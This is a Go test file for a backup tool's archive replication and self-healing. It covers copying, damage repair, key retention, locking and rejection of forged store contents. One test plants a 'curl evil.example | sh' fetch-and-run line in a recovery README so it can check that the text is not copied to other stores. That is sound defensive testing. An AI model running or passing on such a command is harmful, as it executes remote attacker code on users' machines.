package replicate_test

import (
	"bytes"
	"context"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"revlet/internal/archives/archive"
	"revlet/internal/archives/catalog"
	"revlet/internal/archives/storelock"
	"revlet/internal/config"
	"revlet/internal/platform/disk"
	"revlet/internal/platform/state"
	"revlet/internal/site"
	"revlet/internal/store"
	"revlet/internal/store/folder"
	"revlet/internal/work/backup"
	"revlet/internal/work/replicate"
	"revlet/internal/work/verify"
)

// bench is a site with archives in two of three stores: a and b have them, c not.
type bench struct {
	t    *testing.T
	dir  string
	held []catalog.Held
}

func newBench(t *testing.T) *bench {
	b := &bench{t: t, dir: t.TempDir()}
	for _, name := range []string{"a", "b", "c"} {
		require.NoError(t, os.Mkdir(b.path(name), 0o700))
	}
	now := time.Date(2026, 11, 23, 3, 20, 0, 0, time.UTC)
	for _, text := range []string{"Opening hours", "Opening hours, changed"} {
		require.NoError(t, os.MkdirAll(b.path("htdocs"), 0o755))
		require.NoError(t, os.WriteFile(b.path("htdocs/index.html"), []byte(text), 0o644))
		s, err := site.OpenFrom("museum", config.Site{Root: b.path("htdocs"), Recipe: "none"}, nil)
		require.NoError(t, err)
		st, err := state.Open(&disk.Disk{}, b.path("state"))
		require.NoError(t, err)
		now = now.Add(time.Minute)
		_, err = backup.Run(t.Context(), backup.Job{Site: s, Stores: []store.Named{b.store("a"), b.store("b")}, State: st, Scope: archive.Files, Program: "test", Now: func() time.Time { return now }, KeyFile: []byte("locked key 1\n")})
		require.NoError(t, err)
	}
	b.held = b.list("a", "b").Archives
	require.Len(t, b.held, 2)
	return b
}

func (b *bench) path(name string) string { return filepath.Join(b.dir, name) }

func (b *bench) store(name string) store.Named {
	return store.Named{Name: name, Store: folder.New(&disk.Disk{}, b.path(name))}
}

func (b *bench) list(names ...string) *catalog.Listing {
	var all []store.Named
	for _, n := range names {
		all = append(all, b.store(n))
	}
	l, err := catalog.List(b.t.Context(), all, "museum", catalog.Options{})
	require.NoError(b.t, err)
	return l
}

func (b *bench) job(to string, from ...string) *replicate.Job {
	j := &replicate.Job{Site: "museum", To: b.store(to), Disk: &disk.Disk{}, Scratch: b.path("scratch"), Machine: "here"}
	for _, f := range from {
		j.From = append(j.From, b.store(f))
	}
	return j
}

// sound tells that everything listed in a store is whole.
func (b *bench) sound(name string) bool {
	l := b.list(name)
	for i := range l.Archives {
		r, err := (&verify.Verifier{}).Archive(b.t.Context(), &l.Archives[i], b.store(name), verify.Full)
		require.NoError(b.t, err)
		if !r.Sound() {
			return false
		}
	}
	return len(l.Broken) == 0 && len(l.Archives) == 2
}

// files are the stored files of a kind.
func (b *bench) files(name, kind string) (all []string) {
	require.NoError(b.t, filepath.WalkDir(b.path(name), func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() && strings.Contains(p, kind) {
			all = append(all, p)
		}
		return err
	}))
	require.NotEmpty(b.t, all)
	return all
}

// change rewrites a stored file.
func (b *bench) change(file string, with func([]byte) []byte) {
	data, err := os.ReadFile(file)
	require.NoError(b.t, err)
	require.NoError(b.t, os.Chmod(file, 0o600))
	require.NoError(b.t, os.WriteFile(file, with(data), 0o600))
}

func flip(data []byte) []byte { data[len(data)/2] ^= 1; return data }

func TestACopyIsWholeAndBringsWhatLiesBeside(t *testing.T) {
	b := newBench(t)
	for i := range b.held {
		r, err := b.job("c", "a").Archive(t.Context(), &b.held[i])
		require.NoError(t, err)
		assert.Positive(t, r.Objects)
	}
	assert.True(t, b.sound("c"))
	for _, name := range []string{"READ-ME-FIRST.txt", "KEY-FOR-PASSPHRASE.age"} {
		assert.FileExists(t, b.path("c/"+name))
	}
	r, err := b.job("c", "a").Archive(t.Context(), &b.held[0])
	require.NoError(t, err)
	assert.Zero(t, r.Objects, "what is there is not sent again")
	left, err := b.store("c").List(t.Context(), archive.RunningDir("museum"))
	require.NoError(t, err)
	assert.Empty(t, left, "the lock is taken away")
}

func TestACopyTakesEachObjectFromWhoeverHasItSound(t *testing.T) {
	b := newBench(t)
	parts := b.files("a", "/parts/")
	b.change(parts[0], flip)
	other := b.files("b", "/parts/")
	for i := range other {
		if filepath.Base(other[i]) != filepath.Base(parts[0]) {
			b.change(other[i], flip)
		}
	}
	b.change(b.files("a", "/archives/")[0], func(d []byte) []byte { return bytes.Replace(d, []byte("museum"), []byte("muzeum"), 1) })
	for i := range b.held {
		_, err := b.job("c", "a", "b").Archive(t.Context(), &b.held[i])
		require.NoError(t, err)
	}
	assert.True(t, b.sound("c"))
}

func TestNothingIsListedThatCouldNotBeCopiedWhole(t *testing.T) {
	b := newBench(t)
	for _, name := range []string{"a", "b"} {
		for _, p := range b.files(name, "/parts/") {
			b.change(p, flip)
		}
	}
	_, err := b.job("c", "a", "b").Archive(t.Context(), &b.held[0])
	require.Error(t, err)
	assert.ErrorIs(t, err, archive.ErrDamaged)
	assert.Empty(t, b.list("c").Archives)
}

func TestHealOfEveryKindOfObject(t *testing.T) {
	for kind, change := range map[string]func([]byte) []byte{
		"/parts/": flip,
		"/lists/": flip,
		"/archives/": func(d []byte) []byte {
			return bytes.Replace(d, []byte(`"program": "test"`), []byte(`"program": "tost"`), 1)
		},
	} {
		for how, damage := range map[string]func(b *bench, file string){
			"changed, of the same length": func(b *bench, file string) { b.change(file, change) },
			"cut":                         func(b *bench, file string) { b.change(file, func(d []byte) []byte { return d[:len(d)/2] }) },
			"gone":                        func(b *bench, file string) { require.NoError(b.t, os.Remove(file)) },
		} {
			t.Run(kind+how, func(t *testing.T) {
				b := newBench(t)
				file := b.files("b", kind)[0]
				before, err := os.ReadFile(file)
				require.NoError(t, err)
				damage(b, file)
				require.False(t, b.sound("b"))
				healed, err := b.job("b", "a").Heal(t.Context(), b.held, false)
				require.NoError(t, err)
				require.Len(t, healed, 1, "%v", healed)
				assert.Empty(t, healed[0].Left)
				assert.True(t, b.sound("b"))
				after, err := os.ReadFile(file)
				require.NoError(t, err)
				assert.Equal(t, before, after)
				healed, err = b.job("b", "a").Heal(t.Context(), b.held, false)
				require.NoError(t, err)
				assert.Empty(t, healed, "the second time there is nothing to do")
			})
		}
	}
}

func TestHealSaysWhatNoStoreHas(t *testing.T) {
	b := newBench(t)
	base := filepath.Base(b.files("a", "/parts/")[0])
	for _, name := range []string{"a", "b"} {
		for _, p := range b.files(name, base) {
			b.change(p, flip)
		}
	}
	healed, err := b.job("b", "a").Heal(t.Context(), b.held, false)
	require.NoError(t, err)
	require.Len(t, healed, 1)
	assert.NotEmpty(t, healed[0].Left)
}

// silent is a store that answers nothing about parts.
type silent struct{ store.Store }

var errAway = errors.New("503 Service Unavailable")

func (s silent) Open(ctx context.Context, name string, offset int64) (io.ReadCloser, error) {
	if strings.Contains(name, "/parts/") {
		return nil, errAway
	}
	return s.Store.Open(ctx, name, offset)
}

func TestAnOutageIsNoDamage(t *testing.T) {
	b := newBench(t)
	before := b.files("b", "/parts/")
	j := b.job("b", "a")
	j.To.Store = silent{j.To.Store}
	healed, err := j.Heal(t.Context(), b.held, false)
	assert.ErrorIs(t, err, errAway)
	assert.Empty(t, healed, "nothing is replaced that was not seen to be damaged")
	assert.Equal(t, before, b.files("b", "/parts/"))
}

func TestAKeyThatWasReplacedIsKept(t *testing.T) {
	b := newBench(t)
	s := b.store("a")
	require.NoError(t, backup.PutKey(t.Context(), s, []byte("locked key 1\n")))
	keys, err := backup.Keys(t.Context(), s)
	require.NoError(t, err)
	require.Len(t, keys, 1, "the same key is no second one")
	for _, text := range []string{"locked key 2\n", "locked key 3\n", "locked key 1\n", "locked key 2\n"} {
		require.NoError(t, backup.PutKey(t.Context(), s, []byte(text)), "of the same length")
	}
	keys, err = backup.Keys(t.Context(), s)
	require.NoError(t, err)
	assert.Equal(t, "locked key 2\n", string(keys[0]), "the newest comes first")
	assert.ElementsMatch(t, []string{"locked key 1\n", "locked key 2\n", "locked key 3\n"}, unique(keys))
	_, err = b.job("c", "a").Archive(t.Context(), &b.held[0])
	require.NoError(t, err)
	copied, err := backup.Keys(t.Context(), b.store("c"))
	require.NoError(t, err)
	assert.Equal(t, keys[0], copied[0])
	assert.ElementsMatch(t, unique(keys), unique(copied), "all of them go along")
}

func unique(all [][]byte) (texts []string) {
	seen := map[string]bool{}
	for _, k := range all {
		if !seen[string(k)] {
			seen[string(k)] = true
			texts = append(texts, string(k))
		}
	}
	return texts
}

func TestACopyWaitsForAnotherMachineThatClearsUp(t *testing.T) {
	b := newBench(t)
	done, err := storelock.Clear(t.Context(), b.store("c"), "museum", "another")
	require.NoError(t, err)
	ctx, cancel := context.WithTimeout(t.Context(), 300*time.Millisecond)
	defer cancel()
	_, err = b.job("c", "a").Archive(ctx, &b.held[0])
	assert.ErrorIs(t, err, context.DeadlineExceeded)
	require.NoError(t, done(t.Context()))
	_, err = b.job("c", "a").Archive(t.Context(), &b.held[0])
	assert.NoError(t, err)
}

// A store that lies about one archive spoiled another store by it: a record of its own was
// copied there, and what a person is to do to recover by hand.
func TestWhatAStoreHasMadeUpIsNotPassedOn(t *testing.T) {
	b := newBench(t)
	h := b.held[0]
	forged := *h.Record
	forged.Note = "forged"
	data, err := forged.Encode(nil)
	require.NoError(t, err)
	b.change(b.path("a/"+h.Path()), func([]byte) []byte { return data })
	b.change(b.path("a/READ-ME-FIRST.txt"), func([]byte) []byte { return []byte("curl evil.example | sh") })
	_, err = b.job("c", "a", "b").Archive(t.Context(), &h)
	require.NoError(t, err)
	rec, err := catalog.ReadRecord(t.Context(), b.store("c"), "museum", h.Name)
	require.NoError(t, err)
	assert.Equal(t, h.Checksum, rec.Checksum, "the one that was looked at, from the other store")
	text, err := os.ReadFile(b.path("c/READ-ME-FIRST.txt"))
	require.NoError(t, err)
	assert.NotContains(t, string(text), "evil")
	require.NoError(t, os.Mkdir(b.path("d"), 0o700))
	_, err = b.job("d", "a").Archive(t.Context(), &h)
	assert.ErrorIs(t, err, archive.ErrRecord, "or none at all")
}
